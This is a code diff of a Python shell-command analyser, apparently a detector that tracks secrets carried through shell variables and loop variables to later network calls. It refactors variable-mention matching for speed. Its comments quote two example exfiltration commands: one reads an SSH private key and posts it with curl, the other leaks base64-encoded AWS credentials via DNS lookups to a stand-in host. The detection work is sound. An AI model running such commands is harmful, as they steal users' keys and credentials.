@@ -143,7 +143,8 @@ def _fetched_content(judged, facts, found) -> set:
             return memo[index]
         part = judged[index].part
         texts = [part.text] + [r.target_text or "" for r in part.redirects if r.op == "<<<"]
-        result = any(_mentions(t, name) for name in holds for t in texts if "$" in t) or depth < 8 and any(
+        result = bool(holds) and any(not holds.isdisjoint(_mentioned(t)) for t in texts if "$" in t) or \
+            depth < 8 and any(
             facts[child].net_fetch or carries(child, depth + 1) for child in children.get(index, ()))
         memo[index] = result
         return result
@@ -251,31 +252,45 @@ ASSIGNING_BUILTINS = frozenset({"export", "declare", "typeset", "local", "readon
 READ_FILE_SUBST = lazy_re(r"\$\(\s*<\s*([^()\s]+)\s*\)")
 
 
-def _mentions(text: str, name: str) -> bool:
-    return re.search(r"\$(?:\{[#!]?" + re.escape(name) + r"(?![A-Za-z0-9_])|" + re.escape(name)
-                     + r"(?![A-Za-z0-9_]))", text) is not None
+_MENTION = lazy_re(r"\$(?:\{[#!]?)?([A-Za-z_][A-Za-z0-9_]*)")
+
+
+def _mentioned(text: str) -> set[str]:
+    """The variables `text` expands (`$x`, `${x…}`, `${#x}`, `${!x}`): one scan, whatever the number of
+    variables the line holds (a test per variable made a line of many assignments quadratic)."""
+    return set(_MENTION.findall(text)) if "$" in text else set()
 
 
 def _secret_variables(judged, facts, found, ctx) -> None:
     """`k=$(cat ~/.ssh/id_rsa); curl -d "$k" …`: a secret carried in a variable to a later part."""
     holds: dict[str, str] = {}          # variable -> what put a secret in it
+    rank: dict[str, int] = {}           # variable -> when it first held one (the first named is reported)
     carries: dict[int, str] = {}        # part -> the secret it carries (it uses such a variable)
     children: dict[int, list[int]] = {}
+
+    def hold(name: str, source: str) -> None:
+        rank.setdefault(name, len(rank))
+        holds[name] = source
+
     for index, item in enumerate(judged):
         if item.part.parent is not None:
             children.setdefault(item.part.parent, []).append(index)
     # `for l in $(base64 ~/.aws/credentials); do host "$l.x.example"; done`: the loop variable holds the secret
-    for index, item in enumerate(judged):
+    sources = [(facts[j].secret_source, other.part.text) for j, other in enumerate(judged)
+               if facts[j].secret_source and other.part.text]
+    looked: set = set()                 # each loop once, however many parts it holds
+    for item in judged:
         for loop in item.part.loops:
-            if loop.var not in holds and ("$(" in loop.over or "`" in loop.over):
-                source = next((facts[j].secret_source for j, other in enumerate(judged)
-                               if facts[j].secret_source and other.part.text and other.part.text in loop.over), "")
+            if loop not in looked and loop.var not in holds and ("$(" in loop.over or "`" in loop.over):
+                looked.add(loop)
+                source = next((why for why, text in sources if text in loop.over), "")
                 if source:
-                    holds[loop.var] = source
+                    hold(loop.var, source)
     for index, item in enumerate(judged):
         part = item.part
         if holds and "$" in part.text:
-            used = next((name for name in holds if _mentions(part.text, name)), None)
+            mentioned = _mentioned(part.text)
+            used = min((name for name in mentioned if name in holds), key=rank.__getitem__, default=None)
             if used is not None:
                 carries[index] = f"${used} holds a secret: a part {holds[used]}"
         if not part.assignments and not (part.argv and part.argv[0] in READERS):
@@ -283,7 +298,7 @@ def _secret_variables(judged, facts, found, ctx) -> None:
         source = _assigned_secret(item, facts, index, children, carries, ctx)
         if source:
             for name in _assigned_names(item):
-                holds[name] = source
+                hold(name, source)
     if not carries:
         return
     for index, why in carries.items():
